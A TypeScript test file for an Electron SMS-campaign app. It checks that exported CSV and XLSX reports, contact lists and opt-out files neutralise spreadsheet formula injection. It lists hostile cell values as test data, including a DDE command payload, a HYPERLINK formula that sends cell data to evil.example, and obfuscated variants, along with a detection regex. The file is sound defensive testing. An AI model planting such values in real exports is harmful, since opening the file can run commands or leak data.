import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { read } from '@e965/xlsx'
import Papa from 'papaparse'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { writeList } from '../../electron/services/contact-lists/list-export.ts'
import { createExportService } from '../../electron/services/contact-lists/window-export.ts'
import { writeOptOuts } from '../../electron/services/opt-outs/opt-out-export.ts'
import { writeCampaignReport } from '../../electron/services/reports/campaign-report.ts'
import { systemClock } from '../../electron/services/time/clock.ts'
import type { RecipientView } from '../../shared/domain/campaign.ts'

/** Whatever a stranger wrote into a list: no file that the app writes runs it on the computer of whoever opens it. */

let folder: string
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'zhanggui-cells-'))
})
afterEach(() => rmSync(folder, { recursive: true, force: true }))

const hostile = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '＝1+1',
  '＠SUM(1)',
  '\t=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u200b=1+1',
  '";=1+1',
  '",=1+1',
  "'=1+1",
]

/** What a spreadsheet takes for a formula, but for the app's own form of a phone. */
const runs = (cell: string): boolean =>
  /^[\s\u200b]*[=+\-@＝＋－＠]/u.test(cell) && !/^="\+?\d+"$/.test(cell) && !/^-\d+$/.test(cell)

const cellsOfCsv = (path: string): string[] =>
  Papa.parse<string[]>(readFileSync(path, 'utf8').slice(1), { delimiter: ',', newline: '\r\n' }).data.flat()

const pathOf = (ending: string): string => join(folder, `out.${ending}`)

function expectNothingRuns(path: string, columns: number): void {
  if (path.endsWith('.xlsx')) {
    const { Sheets } = read(readFileSync(path), { cellFormula: true })
    const cells = Object.values(Sheets).flatMap(sheet =>
      Object.entries(sheet).filter(([name]) => !name.startsWith('!')),
    )
    expect(cells.length).toBeGreaterThan(hostile.length)
    expect(cells.filter(([, cell]) => cell.f !== undefined || cell.l !== undefined)).toEqual([])
    return
  }
  const cells = cellsOfCsv(path)
  expect(cells.filter(runs)).toEqual([])
  // No cell was broken in two.
  expect(cells.length % columns).toBeLessThanOrEqual(1)
}

test.each(['csv-excel', 'xlsx'] as const)('a report as %s', async format => {
  const path = pathOf(format === 'xlsx' ? 'xlsx' : 'csv')
  const recipients = hostile.map(
    (text, index): RecipientView => ({
      seq: index + 1,
      row: 2,
      phone: index % 2 === 0 ? text : '13800138000',
      name: text,
      message: text,
      signatureCode: text,
      templateCode: text,
      parts: 1,
      state: 'unsent',
      code: null,
      cause: text,
      attempts: 1,
      resolution: null,
      resolvedAt: null,
      updatedAt: 0,
    }),
  )
  await writeCampaignReport({
    path,
    format,
    campaign: { mode: 'real' },
    recipients,
    language: 'zh-CN',
    pricePerPart: 0.05,
    masked: false,
  })
  expectNothingRuns(path, 14)
})

test('a kept list: its columns, values and tags', async () => {
  const list = {
    id: 1,
    name: '=1',
    columns: ['=1+1', '@a'],
    count: 1,
    createdAt: 0,
    updatedAt: 0,
  } as unknown as Parameters<typeof writeList>[1]
  const contacts = hostile.map(text => ({
    phone: '13800138000',
    values: [text, text],
    tags: [text],
    addedAt: 0,
  }))
  await writeList(pathOf('csv'), list, contacts as unknown as Parameters<typeof writeList>[2], 'zh-CN')
  expectNothingRuns(pathOf('csv'), 5)
})

test('opt-outs: their reasons', async () => {
  const optOuts = hostile.map(reason => ({
    phone: '13800138000',
    addedAt: 0,
    reason,
    source: 'typed' as const,
  }))
  await writeOptOuts(pathOf('csv'), optOuts, 'zh-CN')
  expectNothingRuns(pathOf('csv'), 4)
})

test.each(['csv-excel', 'xlsx'] as const)('the list in the window, as %s', async format => {
  const path = pathOf(format === 'xlsx' ? 'xlsx' : 'csv')
  const service = createExportService({ askPath: async () => path, clock: systemClock })
  const id =
    (await service.begin({ name: '名单', format, header: ['=1+1', '@a'], rows: hostile.length })) ?? 0
  await service.rows(
    id,
    hostile.map(text => [text, text]),
  )
  await service.finish(id)
  expectNothingRuns(path, 2)
})
